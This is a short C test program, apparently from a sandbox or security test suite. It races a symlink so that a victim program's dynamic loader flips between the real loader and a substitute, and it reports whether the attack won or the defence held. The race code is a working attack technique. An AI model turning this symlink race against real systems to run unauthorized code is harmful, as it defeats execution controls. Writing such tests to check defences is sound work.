// A program's dynamic loader is a link: a thread flips it between the real one and one that may not run.
#include "attack.h"
static volatile int done;
static void *flip(void *unused) {
    while (!done) {
        (void)!symlink("/lib64/ld-linux-x86-64.so.2", "next");
        rename("next", "loader");
        (void)!symlink("other", "next");
        rename("next", "loader");
    }
    return unused;
}
int main(int argc, char **argv) {
    (void)argc;
    begin(argv);
    char victim[256], folder[256];
    snprintf(victim, sizeof victim, "%s/programs/victim", arena);
    snprintf(folder, sizeof folder, "%s/open", arena);
    if (chdir(folder) < 0 || symlink("/lib64/ld-linux-x86-64.so.2", "loader") < 0) return 9;
    pthread_t thread;
    pthread_create(&thread, NULL, flip, NULL);
    int wins = 0;
    for (int i = 0; i < 300 && !wins; i++) {
        pid_t child = fork();
        if (child == 0) {
            execl(victim, victim, NULL);
            _exit(1);
        }
        int status = 0;
        waitpid(child, &status, 0);
        wins = WIFEXITED(status) && WEXITSTATUS(status) == 77;
    }
    return won_if(wins, "loader") ? WON : HELD;
}
